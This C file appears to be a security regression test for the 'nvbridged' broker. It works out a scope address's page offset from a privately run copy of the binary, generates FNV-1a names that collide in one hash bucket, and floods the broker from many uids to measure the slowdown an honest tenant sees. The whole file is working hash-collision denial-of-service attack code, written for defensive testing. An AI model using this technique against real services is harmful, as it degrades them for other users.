// SPDX-License-Identifier: MIT
/*
 * Attack: names chosen to share one bucket of nvbridged's name tables
 * (entries, parked FETCH_WAITs), so that every PUBLISH, FETCH and
 * UNPUBLISH of an honest tenant's name walks them all.
 *
 * The tables used to be indexed by the low 12 bits of FNV-1a seeded with
 * the scope's address.  FNV's multiply and XOR carry only upwards, so those
 * bits depend only on the address's low 12 bits: its offset in a page,
 * which ASLR does not change.  An unprivileged user learns it by running
 * the same nvbridged binary privately, under its own ptrace, with the same
 * first connection (done here: calibrate()), then computes offline names
 * that land in the bucket of the honest tenant's name (ATTACK_NAME).
 *
 * PUB_UIDS uids publish their --max-entries-per-user (1024) such names
 * each, WAIT_UIDS uids park their --max-waiters-per-user (1024) FETCH_WAITs
 * on more such names.  Measured: the broker's CPU for all that, and an
 * honest uid's PUBLISH + FETCH + UNPUBLISH round of ATTACK_NAME, median
 * of ROUNDS, before and during.  The attack worked when the median round
 * grew more than SLOW_FACTOR-fold (and by SLOW_MS_MIN), or the setup cost
 * the broker more than CPU_MS.
 *
 * Runs as root (becomes uids) against the broker named in argv[1]; needs
 * nm(1) and the binary's symbols for the calibration.  Exit 0: the attack
 * worked (a hole); 1: it did not; 2: setup failed.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include "hostile.h"

#define ATTACK_NAME "honest.model"
#define PUB_UIDS 48
#define WAIT_UIDS 32
#define PER_UID 1024		/* --max-entries-per-user and --max-waiters-per-user defaults */
#define WAIT_CONNS 4		/* --max-waiters (per connection) is 256 */
#define ROUNDS 300
#define SLOW_FACTOR 5.0
#define SLOW_MS_MIN 0.5
#define CPU_MS 10000.0
#define UID_PUB (UID_MANY + 7000)
#define UID_WAIT (UID_MANY + 7100)

static pid_t broker;

/* rfetch_req(), waiting (up to 60 s) while a busy broker leaves the socket full */
static int fetch_req_patient(int s, uint32_t seq, const char *name)
{
	int r;

	for (int i = 0; i < 600; i++)
		if ((r = rfetch_req(s, seq, name, NVBRIDGE_FETCH_WAIT, -1)) != -EAGAIN)
			return r;
	return -EAGAIN;
}

/* the broker's former bucket of name (4096 buckets), given its scope address's low 12 bits */
static uint32_t old_bucket(uint32_t page_off, const char *name)
{
	uint32_t h = 2166136261u ^ page_off;

	for (const char *p = name; *p; p++)
		h = (h ^ (unsigned char)*p) * 16777619u;
	return h % 4096;
}

/* n names "<tag><k>" in old_bucket(off, ATTACK_NAME) */
static char (*colliding(uint32_t off, char tag, size_t n))[24]
{
	char (*v)[24] = calloc(n, sizeof(*v));
	uint32_t want = old_bucket(off, ATTACK_NAME);
	size_t k = 0;

	for (uint64_t i = 0; v && k < n && i < (1ull << 32); i++) {
		snprintf(v[k], sizeof(v[k]), "%c%" PRIu64, tag, i);
		if (old_bucket(off, v[k]) == want)
			k++;
	}
	return v;
}

/* the value of nvbridged's static `scopes` in process pid of binary bin */
static int64_t read_scopes(const char *bin, pid_t pid)
{
	char cmd[512], line[512], path[64];
	unsigned long long off = 0, base = 0;
	uint64_t v = 0;
	FILE *f;
	int fd;

	snprintf(cmd, sizeof(cmd), "nm '%s' 2>/dev/null", bin);
	f = popen(cmd, "r");
	while (f && fgets(line, sizeof(line), f)) {
		char t, name[256];

		if (sscanf(line, "%llx %c %255s", &off, &t, name) == 3 && !strcmp(name, "scopes"))
			break;
		off = 0;
	}
	if (f)
		pclose(f);
	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	f = fopen(path, "re");
	if (!f || !fgets(line, sizeof(line), f) || sscanf(line, "%llx-", &base) != 1 || !off) {
		if (f)
			fclose(f);
		return -1;
	}
	fclose(f);
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || pread(fd, &v, sizeof(v), (off_t)(base + off)) != sizeof(v))
		v = 0;
	if (fd >= 0)
		close(fd);
	return v ? (int64_t)(v & INT64_MAX) : -1;
}

/* what the attacker does with its own copy of the binary: the scope's page offset */
static int64_t calibrate(const char *bin)
{
	char sock[64];
	int p[2];
	pid_t b, h;
	int64_t v = -1;

	snprintf(sock, sizeof(sock), "/tmp/nvb-calib.%d.sock", getpid());
	unlink(sock);
	if (pipe(p))
		return -1;
	b = start_broker_at(bin, sock);
	h = rholder(UID_ATTACK, p[1]);
	if (b > 0 && h > 0 && !rready(p[0]))
		v = read_scopes(bin, b);
	if (h > 0)
		kill(h, SIGKILL), waitpid(h, NULL, 0);
	if (b > 0)
		kill(b, SIGKILL), waitpid(b, NULL, 0);
	unlink(sock);
	close(p[0]);
	close(p[1]);
	return v < 0 ? -1 : v & 0xfff;
}

/*
 * uid u parks n FETCH_WAITs (no timeout) over WAIT_CONNS connections, then
 * an INFO on each (answered after the FETCHes were handled): 'k' on ready.
 */
static pid_t waiter(uid_t u, char (*names)[24], int n, int ready)
{
	pid_t p = fork();

	if (p == 0) {
		struct nvbridge_info info = { .size = sizeof(info) };
		struct nvbridge_wire_hdr h;
		int s[WAIT_CONNS], fd, ok = 1;

		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (become(u))
			_exit(1);
		for (int k = 0; k < WAIT_CONNS && ok; k++) {
			if ((s[k] = rconnect()) < 0 || rhello(s[k], -1)) {
				ok = 0;
				break;
			}
			for (int i = k; i < n && ok; i += WAIT_CONNS)
				ok = !fetch_req_patient(s[k], (uint32_t)i + 1, names[i]);
			ok = ok && !rsend(s[k], NVBRIDGE_WIRE_REQUEST, NVBRIDGE_IOC_INFO, 0, &info,
					  sizeof(info), NULL, 0, -1) &&
			     !rrecv(s[k], &h, NULL, 0, &fd, 30000) && h.seq == 0 && !h.result;
		}
		ready_and_wait(ready, ok);
	}
	return p;
}

/* UID_HONEST's PUBLISH + FETCH + UNPUBLISH of ATTACK_NAME: ms, or -1 */
static double honest_round(int s)
{
	struct nvbridge_unpublish u = { .size = sizeof(u) };
	struct nvbridge_wire_hdr h;
	int64_t t0 = now_ns();
	int fd;

	snprintf(u.name, sizeof(u.name), ATTACK_NAME);
	if (rpublish(s, 1, ATTACK_NAME, -1, NVBRIDGE_ACCESS_SCOPE) ||
	    rrecv(s, &h, NULL, 0, &fd, 5000) || h.result ||
	    rfetch_req(s, 2, ATTACK_NAME, 0, 0) || rrecv(s, &h, NULL, 0, &fd, 5000) || h.result ||
	    rsend(s, NVBRIDGE_WIRE_REQUEST, NVBRIDGE_IOC_UNPUBLISH, 3, &u, sizeof(u), NULL, 0, -1) ||
	    rrecv(s, &h, NULL, 0, &fd, 5000) || h.result)
		return -1;
	return (double)(now_ns() - t0) / 1e6;
}

int main(int argc, char **argv)
{
	pid_t kids[1 + PUB_UIDS + WAIT_UIDS];
	char (*pnames)[24], (*wnames)[24], sock[64];
	int nk = 0, p[2], got = 0, worked;
	double base, during, c0, c1;
	int64_t off;

	if (argc < 2 || pipe(p))
		return 2;
	setvbuf(stdout, NULL, _IOLBF, 0);
	off = calibrate(argv[1]);
	if (off < 0) {
		printf("  calibration failed (no symbols, or nm missing)\n");
		return 2;
	}
	pnames = colliding((uint32_t)off, 'x', PER_UID);
	wnames = colliding((uint32_t)off, 'w', PER_UID);
	if (!pnames || !wnames)
		return 2;
	snprintf(sock, sizeof(sock), "/tmp/nvb-namehash.%d.sock", getpid());
	unlink(sock);
	broker = start_broker_at(argv[1], sock);
	if (broker <= 0)
		return 2;
	/* the same first connection as in the calibration: the scope lands where it did */
	kids[nk++] = rholder(UID_ATTACK, p[1]);
	if (rready(p[0]))
		goto setup;
	printf("  scope page offset: 0x%03" PRIx64 " predicted, 0x%03" PRIx64 " in the broker\n",
	       off, read_scopes(argv[1], broker) & 0xfff);
	base = median_round_ms(UID_HONEST, honest_round, ROUNDS);
	c0 = cpu_ms_of(broker);
	for (int u = 0; u < PUB_UIDS; u++) {
		kids[nk++] = rpublisher(UID_PUB + (uid_t)u, pnames, PER_UID, p[1]);
		got += !rready(p[0]);
	}
	for (int u = 0; u < WAIT_UIDS; u++) {
		kids[nk++] = waiter(UID_WAIT + (uid_t)u, wnames, PER_UID, p[1]);
		got += !rready(p[0]);
	}
	c1 = cpu_ms_of(broker);
	if (got != PUB_UIDS + WAIT_UIDS)
		goto setup;
	during = median_round_ms(UID_HONEST, honest_round, ROUNDS);
	if (base < 0 || during < 0)
		goto setup;
	printf("  %d uids x %d entries and %d uids x %d waiters on names of %s's bucket: "
	       "broker CPU %.0f ms (bound %.0f)\n", PUB_UIDS, PER_UID, WAIT_UIDS, PER_UID,
	       ATTACK_NAME, c1 - c0, CPU_MS);
	printf("  honest PUBLISH+FETCH+UNPUBLISH of %s, median of %d: %.3f ms before, %.3f ms "
	       "during (%.1fx; bound %.1fx)\n", ATTACK_NAME, ROUNDS, base, during, during / base,
	       SLOW_FACTOR);
	worked = c1 - c0 > CPU_MS || (during > SLOW_FACTOR * base && during - base > SLOW_MS_MIN);
	for (int i = 0; i < nk; i++)
		kill(kids[i], SIGKILL), waitpid(kids[i], NULL, 0);
	kill(broker, SIGKILL);
	waitpid(broker, NULL, 0);
	unlink(sock);
	return worked ? 0 : 1;
setup:
	printf("  setup failed (%d of %d attackers ready)\n", got, PUB_UIDS + WAIT_UIDS);
	for (int i = 0; i < nk; i++)
		kill(kids[i], SIGKILL), waitpid(kids[i], NULL, 0);
	kill(broker, SIGKILL);
	waitpid(broker, NULL, 0);
	unlink(sock);
	return 2;
}
